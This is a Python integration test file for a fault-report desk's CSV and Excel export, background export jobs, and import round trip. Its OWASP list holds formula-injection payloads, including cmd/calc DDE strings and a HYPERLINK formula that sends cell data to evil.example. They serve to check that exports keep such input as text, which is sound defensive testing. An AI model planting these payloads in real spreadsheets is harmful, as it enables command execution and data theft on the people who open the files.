"""The record table 故障反馈处理记录表 (issue 13): export as CSV and .xlsx through the API, formula
injection, the worker's export jobs, and the import round trip (both stores)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from faultdesk.entrypoints.common import exports as common_exports
from faultdesk.entrypoints.common import record_table as rt
from tests.conftest import a_report
from tests.integration.lifecycle_helpers import drive, new_fault

# The OWASP "CSV Injection" payloads, and each of the starting characters it names.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "'=already quoted",
]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            rows.append([c.value for c in row])
    return rows


def test_the_table_has_the_template_headers_one_row_a_fault_and_local_times(client, staff):
    number = new_fault(client, staff["agent"], symptom="支付后订单仍显示未支付", reporter_id="u-12345678")
    rid = client.post("/api/v1/reports", json=a_report(reporter_id="u2", channel="web")).json()["report"]["id"]
    assert (
        client.post(f"/api/v1/faults/{number}/reports", json={"report_ids": [rid]}, headers=staff["agent"]).status_code
        == 200
    )
    res = client.get("/api/v1/faults/export?format=csv", headers=staff["pm"])
    assert res.status_code == 200, res.text
    assert res.headers["content-type"].startswith("text/csv")
    rows = read_csv(res.content)
    assert rows[0][:5] == ["故障编号", "反馈时间", "反馈渠道", "用户信息", "故障发生时间"]
    assert rows[0][28] == "归档时间" and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["故障编号"] == number
    assert row["用户信息"] == "138****1234"  # masked, never the contact
    assert row["故障发生时间"] == "2026-11-25 09:40:00"  # the reporter said 09:40 +08:00: shown in Shanghai time
    assert row["反馈数"] == "2" and row["故障现象"] == "支付后订单仍显示未支付"
    assert row["严重程度"] == "未分级" and row["当前状态"] == "已登记"
    english = read_csv(client.get("/api/v1/faults/export?format=csv&lang=en", headers=staff["pm"]).content)
    assert english[0][:3] == ["Fault number", "Reported at", "Channel"] and english[1][14] == "registered"


def test_an_archived_faults_row_says_what_its_clocks_and_records_say(client, staff):
    """The row's counted columns (read by the store's one query a fault: LATERAL on PostgreSQL,
    correlated subqueries on SQLite) agree with the fault's own clocks and stage records."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    number = new_fault(client, staff["agent"], symptom="登录后白屏")
    drive(client, staff["admin"], number, "archived")
    clocks = client.get(f"/api/v1/faults/{number}/clocks", headers=staff["admin"]).json()
    finished = [c for c in clocks if c["state"] in ("met", "breached")]
    on_time = [c for c in finished if c["breached_at"] is None]
    replies = sorted(c["met_at"] for c in clocks if c["kind"] == "first_reply" and c["met_at"])
    assert finished and replies, clocks
    rows = read_csv(client.get("/api/v1/faults/export?format=csv", headers=staff["pm"]).content)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["时效达成"] == f"{len(on_time)}/{len(finished)} 达成"
    first_reply = datetime.fromisoformat(replies[0]).astimezone(ZoneInfo("Asia/Shanghai"))
    assert row["首次响应时间"] == f"{first_reply:%Y-%m-%d %H:%M:%S}"
    assert row["故障原因"] == "接口参数校验逻辑错误" and row["用户满意度"] == "5"
    assert row["归档时间"] and row["解决时间"] and row["发布方式"] == "灰度发布 → 全量发布"
    assert row["反馈数"] == "1" and row["故障现象"] == "登录后白屏"


def test_the_export_takes_the_list_filters(client, staff):
    a = new_fault(client, staff["agent"], symptom="闪退")
    b = client.post(
        "/api/v1/faults", json={"type_code": "03", "new_reports": [a_report()]}, headers=staff["agent"]
    ).json()["fault"]["number"]
    only_03 = read_csv(client.get("/api/v1/faults/export?format=csv&type=03", headers=staff["pm"]).content)
    assert [r[0] for r in only_03[1:]] == [b]
    both = read_csv(client.get("/api/v1/faults/export?format=csv&sort=number", headers=staff["pm"]).content)
    assert [r[0] for r in both[1:]] == sorted([a, b])
    bad = client.get("/api/v1/faults/export?format=pdf", headers=staff["pm"])
    assert bad.status_code == 422


def test_formula_payloads_stay_text_in_csv_and_xlsx(client, staff):
    for payload in OWASP:
        new_fault(client, staff["agent"], symptom=payload, scenario=payload, device_model=payload[:100])
    csv_rows = read_csv(client.get("/api/v1/faults/export?format=csv&sort=registered_at", headers=staff["pm"]).content)
    xlsx = client.get("/api/v1/faults/export?format=xlsx&sort=registered_at", headers=staff["pm"])
    assert xlsx.status_code == 200 and xlsx.headers["content-type"] == common_exports_xlsx()
    xlsx_rows = read_xlsx(xlsx.content)  # asserts no cell is a formula
    symptom = rt.COLUMNS.index("symptom")
    for payload, c_row, x_row in zip(OWASP, csv_rows[1:], xlsx_rows[1:], strict=True):
        for cell in (c_row[symptom], x_row[symptom]):
            assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), cell
            stored = payload.strip()  # intake trims a field's ends (the writer's own test keeps tab and CR)
            assert cell == ("'" + stored if stored.startswith(("=", "+", "-", "@")) else stored)


def common_exports_xlsx() -> str:
    return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_a_large_xlsx_is_a_worker_job_with_progress_and_a_download(client, staff, wiring):
    for i in range(3):
        new_fault(client, staff["agent"], symptom=f"故障 {i}")
    res = client.get("/api/v1/faults/export?format=xlsx&background=true", headers=staff["pm"])
    assert res.status_code == 202, res.text
    job = res.json()
    assert job["state"] == "queued" and res.headers["location"] == f"/api/v1/exports/{job['id']}"
    assert client.get(f"/api/v1/exports/{job['id']}/file", headers=staff["pm"]).status_code == 404  # not yet
    assert client.get(f"/api/v1/exports/{job['id']}", headers=staff["agent"]).status_code == 403  # not theirs
    assert common_exports.run_next_export_job(wiring.desk) is True
    assert common_exports.run_next_export_job(wiring.desk) is False  # nothing else queued
    done = client.get(f"/api/v1/exports/{job['id']}", headers=staff["pm"]).json()
    assert (done["state"], done["rows_done"], done["rows_total"]) == ("done", 3, 3)
    file = client.get(done["download"], headers=staff["pm"])
    assert file.status_code == 200
    rows = read_xlsx(file.content)
    assert len(rows) == 4 and rows[0][0] == "故障编号"


def test_export_then_import_into_an_empty_desk_gives_the_same_table(client, staff, wiring, tmp_path, request):
    """The round trip: a full life, an open fault and an injection payload, exported, imported into
    an empty desk on the same store kind, exported again: the same table, cell for cell."""
    h = staff
    archived = new_fault(client, h["agent"], symptom="登录后白屏", reporter_id="u-998877")
    drive(client, h["admin"], archived, "archived")
    new_fault(client, h["agent"], symptom="=1+2 列表加载慢", scenario="@evil")
    first_csv = client.get("/api/v1/faults/export?format=csv&sort=number", headers=h["pm"]).content
    first_xlsx = client.get("/api/v1/faults/export?format=xlsx&sort=number", headers=h["pm"]).content
    assert len(read_csv(first_csv)) == 3

    from tests.integration.test_record_table_support import empty_desk_client

    with empty_desk_client(request, tmp_path) as (other, other_staff, other_wiring):
        dry = common_exports.import_file(
            other_wiring.desk, "table.xlsx", io.BytesIO(first_xlsx), commit=False, actor=other_staff["admin_actor"]
        )
        assert dry.problems == [] and dry.rows == 2 and not dry.committed
        empty = read_csv(other.get("/api/v1/faults/export?format=csv", headers=other_staff["pm"]).content)
        assert len(empty) == 1  # the dry run wrote nothing
        done = common_exports.import_file(
            other_wiring.desk, "table.xlsx", io.BytesIO(first_xlsx), commit=True, actor=other_staff["admin_actor"]
        )
        assert done.committed, done.problems
        again = other.get("/api/v1/faults/export?format=csv&sort=number", headers=other_staff["pm"]).content
        assert read_csv(again) == read_csv(first_csv)
        # A later registration on the imported fault's day and type continues after its serial.
        later = new_fault(other, other_staff["agent"])
        assert later == "261125-01-003"


pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning")


def test_export_this_view_carries_the_queue_filters_and_the_exports_page_polls(client, staff, wiring):
    from tests.integration.session_helpers import log_in, with_cookie

    a = new_fault(client, staff["agent"], symptom="闪退")
    b = client.post(
        "/api/v1/faults", json={"type_code": "03", "new_reports": [a_report()]}, headers=staff["agent"]
    ).json()["fault"]["number"]
    cookie = with_cookie(log_in(client, "pm1"))
    queue = client.get("/?queue=all&type=03", headers=cookie)
    assert queue.status_code == 200 and "导出此视图" in queue.text
    assert "/queue/export?queue=all&amp;type=03&amp;format=csv" in queue.text
    view = client.get("/queue/export?queue=all&type=03&format=csv", headers=cookie)
    assert view.status_code == 200, view.text
    assert [r[0] for r in read_csv(view.content)[1:]] == [b]
    everything = read_csv(client.get("/queue/export?queue=all&format=csv&sort=number", headers=cookie).content)
    assert [r[0] for r in everything[1:]] == sorted([a, b])
    res = client.get("/api/v1/faults/export?format=xlsx&background=true", headers=staff["pm"])
    page = client.get("/exports", headers=cookie)
    assert 'hx-trigger="every 2s"' in page.text and "排队中" in page.text  # polls while a job waits
    common_exports.run_next_export_job(wiring.desk)
    done = client.get("/exports/rows", headers=cookie)
    assert f"/exports/{res.json()['id']}/file" in done.text and "hx-trigger" not in done.text
    file = client.get(f"/exports/{res.json()['id']}/file", headers=cookie)
    assert file.status_code == 200 and len(read_xlsx(file.content)) == 3
